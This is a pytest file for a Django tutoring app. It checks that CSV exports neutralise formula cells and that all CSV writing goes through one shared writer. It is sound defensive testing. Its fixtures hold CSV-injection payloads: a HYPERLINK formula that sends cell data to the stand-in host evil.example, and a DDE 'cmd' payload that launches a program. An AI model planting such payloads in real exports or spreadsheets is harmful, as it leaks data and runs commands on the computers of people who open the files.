"""A student's own CSV exports neutralise formula cells (CSV injection): a question, lesson or
course title starting with = + - @ tab or CR reaches the spreadsheet as text. Every CSV in the
code base goes through the one shared writer, tutor/spreadsheet.py."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse

from tests.factories import (
    EnrollmentFactory,
    LessonFactory,
    QuestionFactory,
    ReviewCardFactory,
    ReviewLogFactory,
)

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _cells(content: str) -> set[str]:
    return {cell for row in csv.reader(io.StringIO(content)) for cell in row}


def test_history_and_progress_exports_neutralise_formulas(client_for, student, course):
    course.title = "+SUM(1,2)"
    course.save()
    EnrollmentFactory(course=course, student=student)
    lesson = LessonFactory(course=course, title="@cmd|' /C calc'!A0", slug="calc")
    question = QuestionFactory(lesson=lesson, prompt=HOSTILE)
    ReviewLogFactory(card=ReviewCardFactory(student=student, question=question))
    client = client_for(student)

    history = client.get(reverse("review_export_history_csv"))
    cells = _cells(b"".join(history.streaming_content).decode())
    assert "'" + HOSTILE in cells and HOSTILE not in cells
    assert "'+SUM(1,2)" in cells and "'@cmd|' /C calc'!A0" in cells

    progress = _cells(client.get(reverse("review_export_progress_csv")).content.decode())
    assert "'+SUM(1,2)" in progress and "+SUM(1,2)" not in progress
    assert "'@cmd|' /C calc'!A0" in progress


def test_every_csv_is_written_by_the_shared_writer():
    """A new export that writes CSV by hand would skip the neutralising: only
    tutor/spreadsheet.py may use the csv module's writers."""
    base = Path(settings.BASE_DIR)
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    found = [
        str(path.relative_to(base))
        for app in ("accounts", "lessons", "quizzes", "review", "results", "tutor")
        for path in (base / app).rglob("*.py")
        if writers.search(path.read_text(encoding="utf-8"))
    ]
    assert found == ["tutor/spreadsheet.py"]
